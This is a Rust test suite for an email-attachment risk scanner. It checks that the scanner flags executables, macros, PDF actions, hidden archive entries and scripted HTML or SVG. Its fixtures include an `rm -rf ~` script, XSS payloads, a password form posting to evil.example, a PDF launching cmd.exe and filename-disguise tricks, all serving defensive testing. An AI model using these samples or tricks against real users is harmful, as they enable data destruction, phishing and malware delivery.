//! Unit tests of the risk assessment, through `assess` and `with_reputation`.

use std::io::{Cursor, Write};

use memchr::memmem;
use zip::write::SimpleFileOptions;

use super::*;

/// A minimal PE file: DOS header pointing at a PE signature.
fn pe() -> Vec<u8> {
    let mut bytes = vec![0u8; 256];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[2] = 0x90;
    bytes[60..64].copy_from_slice(&128u32.to_le_bytes());
    bytes[128..132].copy_from_slice(b"PE\0\0");
    bytes
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";
const OLE2: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let options =
            SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        writer.start_file(*name, options).expect("start entry");
        writer.write_all(data).expect("write entry");
    }
    writer.finish().expect("finish zip").into_inner()
}

fn codes(risk: &AttachmentRisk) -> Vec<&'static str> {
    risk.reasons.iter().map(|r| r.code).collect()
}

#[track_caller]
fn assert_risk(risk: &AttachmentRisk, level: RiskLevel, code: &str) {
    assert_eq!(risk.level, level, "{risk:#?}");
    assert!(codes(risk).contains(&code), "no {code}: {risk:#?}");
    for reason in &risk.reasons {
        assert!(!reason.message.is_empty() && reason.message.len() < 400);
    }
}

/// A file to assess (name, content type, bytes), the level it must get and a
/// reason code it must carry.
type Case<'a> = (Option<&'a str>, &'a str, &'a [u8], RiskLevel, &'a str);

/// [`assert_risk`] on what [`assess`] makes of each case.
#[track_caller]
fn assert_cases(cases: &[Case]) {
    for &(name, ctype, bytes, level, code) in cases {
        assert_risk(&assess(name, ctype, bytes), level, code);
    }
}

#[test]
fn ordinary_files_are_low() {
    for (name, ctype, bytes) in [
        ("photo.png", "image/png", PNG),
        ("notes.txt", "text/plain", &b"Hello,\nsee you.\n"[..]),
        (
            "report.pdf",
            "application/pdf",
            b"%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\n%%EOF",
        ),
        (
            "MZ notes.txt",
            "text/plain",
            b"MZ is a town; this text starts with MZ and is long enough to not be a header at all.",
        ),
    ] {
        let risk = assess(Some(name), ctype, bytes);
        assert_eq!(
            risk,
            AttachmentRisk {
                level: RiskLevel::Low,
                reasons: vec![]
            },
            "{name}"
        );
    }
    let docx = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
    ]);
    assert_eq!(
        assess(Some("letter.docx"), "application/octet-stream", &docx).level,
        RiskLevel::Low
    );
    assert_eq!(
        assess(None, "application/octet-stream", b"").level,
        RiskLevel::Low
    );
}

#[test]
fn programs_by_name() {
    for name in [
        "setup.exe",
        "RUN.BAT",
        "x.ps1",
        "a.js",
        "b.vbs",
        "c.hta",
        "d.lnk",
        "e.jar",
        "f.apk",
        "g.scr",
        "h.msi",
        "i.reg",
        "j.cpl",
        "k.sh",
        "l.dmg",
        "m.app",
        "n.pif",
        "o.wsf",
    ] {
        assert_risk(
            &assess(Some(name), "application/octet-stream", b"data"),
            RiskLevel::High,
            "executable",
        );
    }
    let binary = "application/octet-stream";
    assert_cases(&[
        (
            Some("disk.iso"),
            binary,
            b"",
            RiskLevel::Medium,
            "disk_image",
        ),
        (
            Some("disk.IMG"),
            binary,
            b"",
            RiskLevel::Medium,
            "disk_image",
        ),
        // Windows drops trailing dots and spaces.
        (
            Some("setup.exe. . "),
            binary,
            b"",
            RiskLevel::High,
            "executable",
        ),
    ]);
}

#[test]
fn programs_by_content() {
    let risk = assess(Some("tool.exe"), "application/octet-stream", &pe());
    assert_eq!(codes(&risk), ["executable"]);
    for bytes in [pe(), ELF.to_vec(), b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec()] {
        assert_risk(
            &assess(None, "application/octet-stream", &bytes),
            RiskLevel::High,
            "executable",
        );
    }
    let script = b"#!/bin/sh\nrm -rf ~\n";
    assert_cases(&[
        (
            Some("run"),
            "text/plain",
            script,
            RiskLevel::Medium,
            "executable",
        ),
        (
            None,
            "application/x-msdownload",
            b"??",
            RiskLevel::High,
            "executable",
        ),
    ]);
}

#[test]
fn names_that_disagree_with_content() {
    let risk = assess(Some("invoice.pdf"), "application/pdf", &pe());
    assert_risk(&risk, RiskLevel::High, "extension_mismatch");
    assert!(codes(&risk).contains(&"executable"));
    let zip = zip_of(&[("a.txt", b"a")]);
    assert_risk(
        &assess(Some("cat.jpg"), "image/jpeg", &zip),
        RiskLevel::Medium,
        "extension_mismatch",
    );
    assert_risk(
        &assess(None, "image/png", b"%PDF-1.4\n"),
        RiskLevel::Medium,
        "extension_mismatch",
    );
    // An image with an archive appended (a "polyglot").
    let polyglot = [PNG, &zip].concat();
    assert_risk(
        &assess(Some("cat.png"), "image/png", &polyglot),
        RiskLevel::Medium,
        "extension_mismatch",
    );
    // Office names swapped between formats are common and harmless.
    let docx = zip_of(&[("[Content_Types].xml", b"<Types/>")]);
    assert_eq!(
        assess(Some("old.doc"), "application/msword", &docx).level,
        RiskLevel::Low
    );
    assert_eq!(
        assess(Some("pic.jpg"), "image/jpeg", PNG).level,
        RiskLevel::Low
    );
}

#[test]
fn double_extensions_and_direction_tricks() {
    for name in [
        "invoice.pdf.exe",
        "invoice.pdf        .exe",
        "scan.JPG.scr",
        "a.docx_.js",
    ] {
        assert_risk(
            &assess(Some(name), "application/octet-stream", b""),
            RiskLevel::High,
            "double_extension",
        );
    }
    assert!(!codes(&assess(Some("setup.v2.exe"), "", b"")).contains(&"double_extension"));
    // "invoice\u{202E}fdp.exe" shows as "invoiceexe.pdf".
    let risk = assess(Some("invoice\u{202E}fdp.exe"), "application/pdf", b"");
    assert_risk(&risk, RiskLevel::High, "rtl_override");
    assert!(codes(&risk).contains(&"executable"));
    // On its own, with a harmless real extension, still High.
    assert_risk(
        &assess(Some("photo\u{202E}gnp.txt"), "text/plain", b"hi"),
        RiskLevel::High,
        "rtl_override",
    );
    // The message never carries the control character itself.
    assert!(risk.reasons.iter().all(|r| !r.message.contains('\u{202E}')));
}

#[test]
fn office_macros() {
    let docm = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/vbaProject.bin", OLE2),
    ]);
    assert_risk(
        &assess(Some("order.docx"), "application/octet-stream", &docm),
        RiskLevel::High,
        "office_macros",
    );
    let plain = zip_of(&[("[Content_Types].xml", b"<Types/>")]);
    assert_risk(
        &assess(Some("sheet.xlsm"), "application/octet-stream", &plain),
        RiskLevel::Medium,
        "office_macros",
    );
    let xlm = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("xl/macrosheets/sheet1.xml", b"<x/>"),
    ]);
    assert_risk(
        &assess(Some("sheet.xlsx"), "", &xlm),
        RiskLevel::High,
        "office_macros",
    );

    let mut doc = OLE2.to_vec();
    doc.extend_from_slice(&[0; 504]);
    assert_eq!(
        assess(Some("old.doc"), "application/msword", &doc).level,
        RiskLevel::Low
    );
    doc.extend_from_slice(
        "_VBA_PROJECT"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<_>>()
            .as_slice(),
    );
    assert_risk(
        &assess(Some("old.doc"), "application/msword", &doc),
        RiskLevel::High,
        "office_macros",
    );
    let mut xls = OLE2.to_vec();
    xls.extend_from_slice(b"\0\0V\0B\0A\0\0\0\0\0");
    assert_risk(
        &assess(Some("old.xls"), "", &xls),
        RiskLevel::High,
        "office_macros",
    );
}

#[test]
fn archives_holding_programs() {
    let zip = zip_of(&[("docs/readme.txt", b"hi"), ("docs/invoice.pdf.exe", &pe())]);
    let risk = assess(Some("docs.zip"), "application/zip", &zip);
    assert_risk(&risk, RiskLevel::High, "archive_with_executable");
    assert!(
        risk.reasons[0].message.contains("invoice.pdf.exe"),
        "{risk:#?}"
    );

    let image = zip_of(&[("disk.iso", b"")]);
    let inner = zip_of(&[("run.js", b"WScript.Echo(1)")]);
    let outer = zip_of(&[("inner.zip", &inner), ("note.txt", b"x")]);
    // Three levels: the third is not opened, and says so.
    let outermost = zip_of(&[("outer.zip", &outer)]);
    let (zip, holds) = ("application/zip", "archive_with_executable");
    assert_cases(&[
        (Some("a.zip"), zip, &image, RiskLevel::Medium, holds),
        (Some("outer.zip"), zip, &outer, RiskLevel::High, holds),
        (
            Some("x.zip"),
            zip,
            &outermost,
            RiskLevel::Medium,
            "archive_unchecked",
        ),
    ]);

    let clean = zip_of(&[("a.txt", b"a"), ("b/c.png", PNG)]);
    assert_eq!(
        assess(Some("pics.zip"), "application/zip", &clean).level,
        RiskLevel::Low
    );
}

#[test]
fn encrypted_and_broken_archives_cannot_be_checked() {
    let mut zip = zip_of(&[("secret.docx", b"x")]);
    // Set the "encrypted" flag in the local and central headers.
    for magic in [&b"PK\x03\x04"[..], b"PK\x01\x02"] {
        let at = memmem::find(&zip, magic).expect("header");
        let flags = if magic[2] == 3 { at + 6 } else { at + 8 };
        zip[flags] |= 1;
    }
    assert_risk(
        &assess(Some("secret.zip"), "application/zip", &zip),
        RiskLevel::Medium,
        "encrypted_archive",
    );

    let broken = b"PK\x03\x04 this is not really a zip".to_vec();
    assert_risk(
        &assess(Some("broken.zip"), "application/zip", &broken),
        RiskLevel::Medium,
        "archive_unchecked",
    );
}

#[test]
fn names_hidden_from_the_central_directory_are_seen() {
    // Two archives back to back: a ZIP reader sees only the last one,
    // other unpackers the first.
    let hidden = zip_of(&[("payload.exe", b"MZ")]);
    let shown = zip_of(&[("readme.txt", b"hi")]);
    let both = [hidden, shown].concat();
    assert_risk(
        &assess(Some("a.zip"), "application/zip", &both),
        RiskLevel::High,
        "archive_with_executable",
    );
}

#[test]
fn scripts_in_web_pages_and_svg() {
    for (name, page) in [
        ("a.html", &b"<html><body><script>alert(1)</script></body></html>"[..]),
        ("b.htm", b"<p><img src=x onerror=alert(1)></p>"),
        ("c.html", b"<a href=\"jav&#x61;script:alert(1)\">x</a>"),
        ("d.svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("e.svg", b"<svg><script>alert(1)</script></svg>"),
    ] {
        assert_risk(&assess(Some(name), "application/octet-stream", page), RiskLevel::High, "active_content");
    }
    let form = b"<html><form action=https://evil.example/><input type=password></form></html>";
    assert_risk(
        &assess(Some("login.html"), "text/html", form),
        RiskLevel::Medium,
        "active_content",
    );
    // Markup found by content, whatever the name.
    let sniffed = b"\xef\xbb\xbf  <!DOCTYPE html><html><script>x</script>";
    assert_risk(
        &assess(Some("invoice"), "application/octet-stream", sniffed),
        RiskLevel::High,
        "active_content",
    );
    let plain = b"<html><body><p>Menu for <b>Friday</b></p></body></html>";
    assert_eq!(
        assess(Some("menu.html"), "text/html", plain).level,
        RiskLevel::Low
    );
    let logo = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/></svg>";
    assert_eq!(
        assess(Some("logo.svg"), "image/svg+xml", logo).level,
        RiskLevel::Low
    );
}

#[test]
fn pdf_actions() {
    let js = b"%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction 2 0 R>> endobj\n2 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj\n";
    let escaped = b"%PDF-1.4\n2 0 obj <</S/J#61vaScript/J#53 (x)>> endobj\n";
    let launch = b"%PDF-1.4\n2 0 obj <</S/Launch/F(cmd.exe)>> endobj\n";
    let embedded = b"%PDF-1.4\n2 0 obj <</Type/EmbeddedFile/Length 3>> endobj\n";
    // JavaScript hidden in a compressed object stream.
    let mut deflated = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    deflated
        .write_all(b"<</S/JavaScript/JS(app.alert(1))>>")
        .expect("deflate");
    let deflated = deflated.finish().expect("deflate");
    let mut stream =
        b"%PDF-1.5\n5 0 obj <</Type/ObjStm/Filter/FlateDecode/Length 99>>\nstream\r\n".to_vec();
    stream.extend_from_slice(&deflated);
    stream.extend_from_slice(b"\nendstream\nendobj\n");
    let (pdf, high, medium) = (Some("a.pdf"), RiskLevel::High, RiskLevel::Medium);
    assert_cases(&[
        (pdf, "application/pdf", js, high, "pdf_javascript"),
        (pdf, "application/pdf", escaped, high, "pdf_javascript"),
        (pdf, "application/pdf", launch, high, "pdf_launch"),
        (
            pdf,
            "application/pdf",
            embedded,
            medium,
            "pdf_embedded_file",
        ),
        (pdf, "application/pdf", &stream, high, "pdf_javascript"),
    ]);
    let json = b"%PDF-1.4\n2 0 obj <</JSON 1/JSX 2>> endobj\n";
    assert_eq!(
        assess(Some("a.pdf"), "application/pdf", json).level,
        RiskLevel::Low
    );
}

#[test]
fn rtf_with_objects() {
    let rtf = b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}";
    assert_risk(
        &assess(Some("a.rtf"), "application/rtf", rtf),
        RiskLevel::Medium,
        "embedded_object",
    );
    assert_eq!(
        assess(Some("a.rtf"), "application/rtf", b"{\\rtf1 Hello}").level,
        RiskLevel::Low
    );
}

#[test]
fn reputation_raises_only_what_is_already_a_concern() {
    let medium = assess(Some("disk.iso"), "", b"");
    let raised = with_reputation(medium.clone(), Reputation::FirstContact);
    assert_eq!(raised.level, RiskLevel::High);
    assert_eq!(codes(&raised), ["disk_image", "first_contact"]);
    assert_eq!(
        with_reputation(medium.clone(), Reputation::KnownCorrespondent),
        medium
    );
    let low = assess(Some("a.txt"), "text/plain", b"hi");
    assert_eq!(with_reputation(low.clone(), Reputation::FirstContact), low);
    let high = assess(Some("a.exe"), "", b"");
    assert_eq!(
        with_reputation(high, Reputation::FirstContact).level,
        RiskLevel::High
    );
}

#[test]
fn serializes_in_snake_case() {
    let risk = with_reputation(assess(Some("a.iso"), "", b""), Reputation::FirstContact);
    let json = serde_json::to_value(&risk).expect("serialize");
    assert_eq!(json["level"], "high");
    assert_eq!(json["reasons"][0]["code"], "disk_image");
    assert_eq!(json["reasons"][1]["code"], "first_contact");
    assert_eq!(
        serde_json::to_value(Reputation::KnownCorrespondent).expect("serialize"),
        "known_correspondent"
    );
    assert!(RiskLevel::Low < RiskLevel::Medium && RiskLevel::Medium < RiskLevel::High);
}

#[test]
fn corpus_attachments_are_assessed() {
    let h5sc = homepost_testing::corpus::path("xss/h5sc");
    let raw = std::fs::read(h5sc.join("test.eml")).expect("h5sc test.eml");
    for (info, bytes) in crate::attachments(&raw) {
        let _ = assess(info.filename.as_deref(), &info.content_type, &bytes);
    }
    let svg = std::fs::read(h5sc.join("test.svg")).expect("h5sc test.svg");
    assert_risk(
        &assess(Some("test.svg"), "image/svg+xml", &svg),
        RiskLevel::High,
        "active_content",
    );
    // An MHTML vector for old Internet Explorer: its script is base64 in
    // the text, so nothing active is visible without that browser's
    // confusion; it must just be read without trouble.
    let html = std::fs::read(h5sc.join("test.html")).expect("h5sc test.html");
    let _ = assess(Some("test.html"), "text/html", &html);
}

proptest::proptest! {
    #[test]
    fn assess_never_panics(
        bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..2048),
        name in proptest::option::of(".{0,40}"),
        ctype in proptest::sample::select(vec!["application/octet-stream", "application/pdf", "text/html", "image/svg+xml", "application/zip", ""]),
    ) {
        let risk = assess(name.as_deref(), ctype, &bytes);
        proptest::prop_assert_eq!(risk.level == RiskLevel::Low, risk.reasons.is_empty());
    }

    #[test]
    fn assess_never_panics_on_damaged_archives(
        cut in 0usize..400,
        flips in proptest::collection::vec((0usize..400, proptest::prelude::any::<u8>()), 0..8),
    ) {
        let inner = zip_of(&[("x.exe", b"MZ")]);
        let mut zip = zip_of(&[("a.txt", b"a"), ("in.zip", &inner), ("word/vbaProject.bin", b"")]);
        for (at, byte) in flips {
            if let Some(b) = zip.get_mut(at) {
                *b = byte;
            }
        }
        zip.truncate(zip.len().saturating_sub(cut));
        let _ = assess(Some("a.zip"), "application/zip", &zip);
    }
}
